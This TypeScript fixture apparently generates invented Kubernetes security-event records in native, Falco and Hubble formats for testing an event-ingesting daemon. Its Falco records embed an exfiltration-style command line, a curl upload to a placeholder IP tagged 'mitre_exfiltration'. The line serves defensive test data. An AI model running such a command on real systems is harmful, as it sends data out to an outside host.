/** Records of one fleet as each source writes them. Names and sizes as clusters have them; all values invented. */
import type { PodObservation } from "../src/domain/observation.ts";

export interface RecordKind {
  readonly name: string;
  readonly source: string;
  readonly record: (index: number, now: number) => unknown;
}

const WORKLOADS = 60;
const PODS = 4;
const POLICIES = 6;

/** Pods the daemon knows before events come, as a daemon in a cluster does. */
export function knownPods(now: number): readonly PodObservation[] {
  return Array.from({ length: WORKLOADS * PODS }, (_, index) => {
    const workload = index % WORKLOADS;
    return {
      type: "pod",
      cluster: "default",
      namespace: namespaceOf(workload),
      name: podOf(index),
      uid: uidOf(index),
      owner: `ReplicaSet/${nameOf(workload)}-6c9f7d8b54`,
      templateHash: "6c9f7d8b54",
      node: nodeOf(index),
      ips: [`10.1.${index >> 8}.${index & 255}`],
      hostNetwork: false,
      containers: [
        { name: "main", role: "app", image: imageOf(workload), digest: digestOf(workload), containerId: containerOf(index) },
      ],
      labels: {},
      startedAt: now - 86_400_000,
      readyAt: now - 86_300_000,
      observedAt: now - 86_300_000,
    };
  });
}

export const RECORD_KINDS: readonly RecordKind[] = [
  { name: "native", source: "native", record: native },
  {
    name: "native, ids",
    source: "native",
    record: (index, now) => ({ id: `01JD${hex(index, 12)}-${hex(index * 7919, 8)}`, ...native(index, now) }),
  },
  { name: "Falco", source: "falco", record: falco },
  { name: "Hubble", source: "hubble", record: hubble },
];

function native(index: number, now: number) {
  const pod = podIndex(index);
  const workload = pod % WORKLOADS;
  return {
    time: new Date(timeOf(index, now)).toISOString(),
    policy: `deny-egress-${index % POLICIES}`,
    engine: "cilium",
    action: "deny",
    cluster: "default",
    namespace: namespaceOf(workload),
    workload: `Deployment/${nameOf(workload)}`,
    pod: podOf(pod),
    container: "main",
    image: imageOf(workload),
    digest: digestOf(workload),
    peer: `198.51.100.${index % 250}:443`,
    count: 1,
    message: "egress denied by policy",
  };
}

function falco(index: number, now: number) {
  const pod = podIndex(index);
  const workload = pod % WORKLOADS;
  const time = timeOf(index, now);
  const command = `curl -s https://198.51.100.${index % 250}/upload`;
  const rule = `Unexpected outbound connection ${index % POLICIES}`;
  return {
    uuid: `${hex(index, 8)}-1c2d-4e3f-8a9b-${hex(index * 7919, 12)}`,
    output: `Warning ${rule} (command=${command} container=main k8s.ns=${namespaceOf(workload)} k8s.pod=${podOf(pod)})`,
    priority: "Warning",
    rule,
    source: "syscall",
    hostname: nodeOf(pod),
    tags: ["container", "network", "mitre_exfiltration", "PCI_DSS_1.3.4"],
    time: new Date(time).toISOString().replace("Z", "123456Z"),
    output_fields: {
      "container.id": containerOf(pod).slice(0, 12),
      "container.name": "main",
      "container.image.repository": `registry.example/shop/${nameOf(workload)}`,
      "container.image.tag": "2.4.1",
      "k8s.ns.name": namespaceOf(workload),
      "k8s.pod.name": podOf(pod),
      "k8s.pod.uid": uidOf(pod),
      "evt.time": time * 1_000_000,
      "fd.name": `10.1.0.7:41234->198.51.100.${index % 250}:443`,
      "proc.cmdline": command,
      "proc.name": "curl",
      "proc.pname": "sh",
      "user.name": "app",
      "user.uid": 10_001,
    },
  };
}

function hubble(index: number, now: number) {
  const pod = podIndex(index);
  const workload = pod % WORKLOADS;
  const time = new Date(timeOf(index, now)).toISOString().replace("Z", "123456Z");
  return {
    flow: {
      time,
      uuid: `${hex(index, 8)}-1c2d-4e3f-8a9b-${hex(index * 7919, 12)}`,
      verdict: "DROPPED",
      drop_reason: 133,
      drop_reason_desc: "POLICY_DENIED",
      ethernet: { source: "0e:11:22:33:44:55", destination: "0e:11:22:33:44:66" },
      IP: { source: `10.1.${pod >> 8}.${pod & 255}`, destination: `198.51.100.${index % 250}`, ipVersion: "IPv4" },
      l4: { TCP: { source_port: 10_000 + (index % 50_000), destination_port: 443, flags: { SYN: true } } },
      source: {
        ID: 1000 + workload,
        identity: 20_000 + workload,
        cluster_name: "default",
        namespace: namespaceOf(workload),
        labels: [`k8s:app=${nameOf(workload)}`, `k8s:io.kubernetes.pod.namespace=${namespaceOf(workload)}`],
        pod_name: podOf(pod),
        workloads: [{ name: nameOf(workload), kind: "Deployment" }],
      },
      destination: { identity: 2, labels: ["reserved:world"] },
      Type: "L3_L4",
      node_name: nodeOf(pod),
      event_type: { type: 1, sub_type: 133 },
      traffic_direction: "EGRESS",
      Summary: "TCP Flags: SYN",
      egress_denied_by: [{ name: `deny-egress-${index % POLICIES}`, namespace: namespaceOf(workload), revision: 3 }],
    },
    node_name: nodeOf(pod),
    time,
  };
}

/** Spread over the last half minute: two or three fine buckets are open at a time. */
function timeOf(index: number, now: number): number {
  return now - 20_000 + (index % 20_000);
}

/** A pod per event that goes through all of them in an order without pattern. */
function podIndex(index: number): number {
  return (Math.imul(index, 2_654_435_761) >>> 0) % (WORKLOADS * PODS);
}

function nameOf(workload: number): string {
  return `card-service-${workload}`;
}

function namespaceOf(workload: number): string {
  return `team-${workload % 12}`;
}

function podOf(pod: number): string {
  return `${nameOf(pod % WORKLOADS)}-6c9f7d8b54-${hex(pod * 31_337, 5)}`;
}

function nodeOf(pod: number): string {
  return `node-${pod % 20}.cluster.example`;
}

function uidOf(pod: number): string {
  return `${hex(pod * 99_991, 8)}-5b6c-4d7e-9f80-${hex(pod * 7_777_777, 12)}`;
}

function containerOf(pod: number): string {
  return hex(pod * 99_991 + 17, 12).padEnd(64, "0a1b2c3d");
}

function imageOf(workload: number): string {
  return `registry.example/shop/${nameOf(workload)}:2.4.1`;
}

function digestOf(workload: number): string {
  return `sha256:${hex(workload * 104_729 + 1, 8).repeat(8)}`;
}

function hex(value: number, digits: number): string {
  return Math.abs(value).toString(16).padStart(digits, "0").slice(-digits);
}
